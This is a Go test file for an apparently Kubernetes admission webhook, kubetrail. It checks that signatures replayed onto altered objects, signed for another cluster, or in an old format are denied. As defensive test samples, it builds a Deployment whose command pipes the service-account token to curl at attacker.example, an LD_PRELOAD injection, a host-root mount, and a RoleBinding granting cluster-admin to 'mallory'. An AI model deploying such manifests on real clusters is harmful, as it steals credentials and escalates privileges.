package test

import (
	"context"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubetrail/kubetrail/api/v1alpha1"
	"github.com/kubetrail/kubetrail/internal/provenance"
	"github.com/kubetrail/kubetrail/internal/signing"
)

// H1: a signature binds the object's content, for one cluster. An attacker holding
// the pipeline's cluster credential but not its signing key deletes a signed object
// and re-creates it with other content and the original signature.
var _ = Describe("Signatures bind content", func() {
	var (
		ns  string
		key ed25519.PrivateKey
	)
	BeforeEach(func(ctx SpecContext) {
		ns = newNamespace(ctx)
		var pub string
		key, pub = newKey()
		newPolicy(ctx, ns, v1alpha1.TracePolicySpec{
			Mode: v1alpha1.ModeEnforce, RequiredFields: append(requireAll, v1alpha1.FieldSignature),
			TrustedSubmitters: trustPipeline,
			Signing: &v1alpha1.Signing{Required: true, PublicKeys: []v1alpha1.PublicKey{{Name: "ci", PEM: pub}},
				Audience: testAudience, MaxValidity: &metav1.Duration{Duration: 24 * time.Hour}},
		})
	})

	// replay is what the attacker keeps of a signed object: its provenance and
	// signature, without the admission facts (only the webhook writes those).
	replay := func(ann map[string]string) map[string]string {
		out := map[string]string{}
		for _, k := range provenance.ProvenanceKeys {
			if v, ok := ann[k]; ok {
				out[k] = v
			}
		}
		return out
	}
	deleteAndWait := func(ctx context.Context, obj client.Object) {
		Expect(admin.Delete(ctx, obj)).To(Succeed())
		Eventually(func(g Gomega) {
			err := admin.Get(ctx, client.ObjectKeyFromObject(obj), obj.DeepCopyObject().(client.Object))
			g.Expect(client.IgnoreNotFound(err)).To(Succeed())
			g.Expect(err).To(HaveOccurred())
		}).Should(Succeed())
	}

	It("denies a signed RoleBinding re-created with roleRef cluster-admin for mallory, naming the digest mismatch", func(ctx SpecContext) {
		rb := &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "app-view", Annotations: pipelineProvenance(commitA)},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "alice"}},
		}
		sign(rb, key, time.Hour)
		Expect(users[pipeline].Create(ctx, rb)).To(Succeed())
		Expect(rb.Annotations).To(HaveKeyWithValue(provenance.VerifiedKey, "true"))
		signedDigest := rb.Annotations[provenance.DigestKey]

		deleteAndWait(ctx, rb)
		evil := &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "app-view", Annotations: replay(rb.Annotations)},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "mallory"}},
		}
		err := users[pipeline].Create(ctx, evil)
		Expect(err).To(HaveOccurred(), "a signature replayed onto other content must be denied")
		Expect(err.Error()).To(SatisfyAll(
			ContainSubstring("kubetrail.io/signature"),
			ContainSubstring("the signed content digest is "+signedDigest),
			ContainSubstring("but the admitted object's is sha256:"),
		))
		Expect(admin.Get(ctx, client.ObjectKeyFromObject(evil), &rbacv1.RoleBinding{})).NotTo(Succeed(), "nothing was stored")
	})

	It("denies a signed Deployment re-created with another command, env or volume", func(ctx SpecContext) {
		d := deployment(ns, "api", "nginx:1.27", pipelineProvenance(commitB))
		sign(d, key, time.Hour)
		Expect(users[pipeline].Create(ctx, d)).To(Succeed())
		Expect(d.Annotations).To(HaveKeyWithValue(provenance.VerifiedKey, "true"))
		deleteAndWait(ctx, d)

		for name, change := range map[string]func(*appsv1.Deployment){
			"command": func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://attacker.example"}
			},
			"env": func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "LD_PRELOAD", Value: "/evil.so"}}
			},
			"volume": func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
				d.Spec.Template.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "root", MountPath: "/host"}}
			},
		} {
			evil := deployment(ns, "api", "nginx:1.27", replay(d.Annotations))
			change(evil)
			err := users[pipeline].Create(ctx, evil)
			Expect(err).To(HaveOccurred(), "the same signature with another %s", name)
			Expect(err.Error()).To(ContainSubstring("the signed content digest is"), name)
		}
	})

	It("denies a statement made for another cluster, and one valid for longer than spec.signing.maxValidity, naming both", func(ctx SpecContext) {
		other := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		signFor(other, key, "staging-us-2", time.Hour, true)
		err := users[pipeline].Create(ctx, other)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(SatisfyAll(ContainSubstring(`audience is "staging-us-2"`), ContainSubstring(`this cluster is "envtest"`)))

		long := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		signFor(long, key, testAudience, 30*24*time.Hour, true)
		err = users[pipeline].Create(ctx, long)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(ContainSubstring("spec.signing.maxValidity"))
	})

	It("compares the digest of the object as admitted: a manifest signed without the server's defaults is denied, the dry-run result admitted", func(ctx SpecContext) {
		local := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		signFor(local, key, testAudience, time.Hour, false)
		err := users[pipeline].Create(ctx, local)
		Expect(err).To(HaveOccurred(), "the apiserver defaulted fields the signed manifest leaves out")
		Expect(err.Error()).To(SatisfyAll(ContainSubstring("the signed content digest is"), ContainSubstring("--server-dry-run")))

		d := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		sign(d, key, time.Hour)
		Expect(users[pipeline].Create(ctx, d)).To(Succeed())
		Expect(d.Annotations).To(HaveKeyWithValue(provenance.VerifiedKey, "true"))
		sig, err := signedStatement(d.Annotations[provenance.SignatureKey])
		Expect(err).NotTo(HaveOccurred())
		Expect(sig).To(ContainSubstring(`"sha256":"`+d.Annotations[provenance.DigestKey][len("sha256:"):]+`"`),
			"the signed subject digest is the digest the webhook stamped")
	})

	It("rejects an old-format signature by a trusted key, telling to re-sign", func(ctx SpecContext) {
		d := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		d.Annotations[provenance.SignatureKey] = legacySignature(key, ns)
		err := users[pipeline].Create(ctx, d)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(SatisfyAll(ContainSubstring("old-format kubetrail signature"), ContainSubstring("re-sign")))
	})
})

// signedStatement returns the in-toto statement inside a kubetrail.io/signature.
func signedStatement(encoded string) (string, error) {
	raw, err := base64.StdEncoding.DecodeString(encoded)
	if err != nil {
		return "", err
	}
	var env struct {
		Payload string `json:"payload"`
	}
	if err := json.Unmarshal(raw, &env); err != nil {
		return "", err
	}
	body, err := base64.StdEncoding.DecodeString(env.Payload)
	return string(body), err
}

// legacySignature is a signature as kubetrail wrote them before they bound content:
// a DSSE envelope of the old payload type, signed by key over the object's identity.
func legacySignature(key ed25519.PrivateKey, ns string) string {
	body := fmt.Sprintf(`{"group":"apps","kind":"Deployment","namespace":%q,"name":"web","provenance":{},"expires":%q}`,
		ns, time.Now().Add(time.Hour).UTC().Format(time.RFC3339))
	pae := fmt.Sprintf("DSSEv1 %d %s %d %s", len(signing.LegacyPayloadType), signing.LegacyPayloadType, len(body), body)
	env, _ := json.Marshal(map[string]interface{}{
		"payloadType": signing.LegacyPayloadType,
		"payload":     base64.StdEncoding.EncodeToString([]byte(body)),
		"signatures": []map[string]string{{
			"keyid": signing.KeyID(key.Public().(ed25519.PublicKey)),
			"sig":   base64.StdEncoding.EncodeToString(ed25519.Sign(key, []byte(pae))),
		}},
	})
	return base64.StdEncoding.EncodeToString(env)
}
